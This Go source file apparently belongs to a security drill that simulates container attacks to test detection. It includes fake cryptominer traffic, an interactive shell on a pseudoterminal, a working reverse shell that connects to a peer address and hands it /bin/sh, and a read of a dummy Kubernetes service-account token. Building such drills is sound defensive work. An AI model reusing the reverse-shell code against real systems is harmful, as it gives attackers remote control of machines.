package main

import (
	"bufio"
	"fmt"
	"net"
	"os"
	"os/exec"
	"os/signal"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// drillAttackCommand and drillAttackEnv make this program run as the harmless attacker of a drill. The attacker
// connects to the peer of the drill only, mines nothing, and ends with the drill.
const (
	drillAttackCommand = "__drill-attack"
	drillAttackEnv     = "STANCH_DRILL_ATTACK"
)

// runDrillAttack is the first process of the drill's container. It waits until its network is configured, then runs the
// attack. args are the kind of attack and the address of the peer. It returns the exit code.
func runDrillAttack(args []string) int {
	if len(args) != 2 {
		return 2
	}
	kind, address := args[0], args[1]
	if kind == "miner" {
		return simulateMining(address)
	}
	// The drill closes the other end of standard input when the network is configured.
	_, _ = bufio.NewReader(os.Stdin).ReadByte()
	self, err := os.Executable()
	if err != nil {
		return 1
	}
	env := append(os.Environ(), drillAttackEnv+"=miner "+address)
	switch kind {
	case "wait":
		// The sibling only sends.
		return simulateMining(address)
	case "cryptominer":
		err = syscall.Exec(
			self,
			[]string{"xmrig", "--url", "stratum+tcp://" + address, "--donate-level", "1"},
			env,
		)
	case "shell":
		go simulateMining(address)
		err = runTerminalShell()
	case "reverse-shell":
		err = runReverseShell(address)
	case "credentials":
		if err = readFakeToken(); err == nil {
			return simulateMining(address)
		}
	}
	fmt.Fprintln(os.Stderr, "drill attack:", err)
	return 1
}

// simulateMining sends a line to address every 50 ms, as a miner sends its shares, until the process ends.
func simulateMining(address string) int {
	ended := make(chan os.Signal, 1)
	signal.Notify(ended, syscall.SIGTERM)
	go func() { <-ended; os.Exit(0) }()
	for n := 0; ; {
		c, err := net.DialTimeout("tcp", address, 2*time.Second) //nolint:noctx // until killed
		if err != nil {
			time.Sleep(100 * time.Millisecond)
			continue
		}
		for ; ; n++ {
			if _, err := fmt.Fprintf(c, "{\"id\":%d,\"method\":\"submit\"}\n", n); err != nil {
				break
			}
			time.Sleep(50 * time.Millisecond)
		}
		_ = c.Close()
	}
}

// readFakeToken reads a worthless token with a tool, at the path where pods have their service account token. The
// token is visible only in the mount namespace of this process.
func readFakeToken() error {
	if err := unix.Mount("", "/", "", unix.MS_REC|unix.MS_PRIVATE, ""); err != nil {
		return fmt.Errorf("make the mounts private: %w", err)
	}
	if err := unix.Mount("tmpfs", "/run", "tmpfs", 0, "size=64k"); err != nil {
		return fmt.Errorf("mount a tmpfs for the token: %w", err)
	}
	const dir = "/run/secrets/kubernetes.io/serviceaccount"
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return fmt.Errorf("write the token: %w", err)
	}
	if err := os.WriteFile(dir+"/token", []byte("a dummy token for a drill\n"), 0o600); err != nil {
		return fmt.Errorf("write the token: %w", err)
	}
	if err := exec.Command("cat", dir+"/token").Run(); err != nil { //nolint:noctx // at once
		return fmt.Errorf("read the token: %w", err)
	}
	return nil
}

// runTerminalShell runs a shell on a new pseudoterminal, until it ends.
func runTerminalShell() error {
	master, err := os.OpenFile("/dev/ptmx", os.O_RDWR, 0)
	if err != nil {
		return fmt.Errorf("open a terminal: %w", err)
	}
	if err := unix.IoctlSetPointerInt(int(master.Fd()), unix.TIOCSPTLCK, 0); err != nil {
		return fmt.Errorf("open a terminal: %w", err)
	}
	n, err := unix.IoctlGetInt(int(master.Fd()), unix.TIOCGPTN)
	if err != nil {
		return fmt.Errorf("open a terminal: %w", err)
	}
	slave, err := os.OpenFile(fmt.Sprintf("/dev/pts/%d", n), os.O_RDWR, 0)
	if err != nil {
		return fmt.Errorf("open a terminal: %w", err)
	}
	shell := exec.Command("/bin/sh", "-i") //nolint:noctx // until killed
	shell.Stdin, shell.Stdout, shell.Stderr = slave, slave, slave
	shell.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Setctty: true}
	if err := shell.Start(); err != nil {
		return fmt.Errorf("start a shell: %w", err)
	}
	if err := shell.Wait(); err != nil {
		return fmt.Errorf("run a shell: %w", err)
	}
	return nil
}

// runReverseShell connects to address and replaces this process with a shell on the connection. It returns only on an
// error.
func runReverseShell(address string) error {
	c, err := net.DialTimeout("tcp", address, 5*time.Second) //nolint:noctx // at once
	if err != nil {
		return fmt.Errorf("connect to the drill's peer: %w", err)
	}
	f, err := c.(*net.TCPConn).File()
	if err != nil {
		return fmt.Errorf("connect to the drill's peer: %w", err)
	}
	for fd := range 3 {
		if err := unix.Dup2(int(f.Fd()), fd); err != nil {
			return fmt.Errorf("connect to the drill's peer: %w", err)
		}
	}
	if err := unix.SetNonblock(0, false); err != nil {
		return fmt.Errorf("connect to the drill's peer: %w", err)
	}
	return syscall.Exec("/bin/sh", []string{"sh"}, os.Environ()) //nolint:wrapcheck // does not return
}
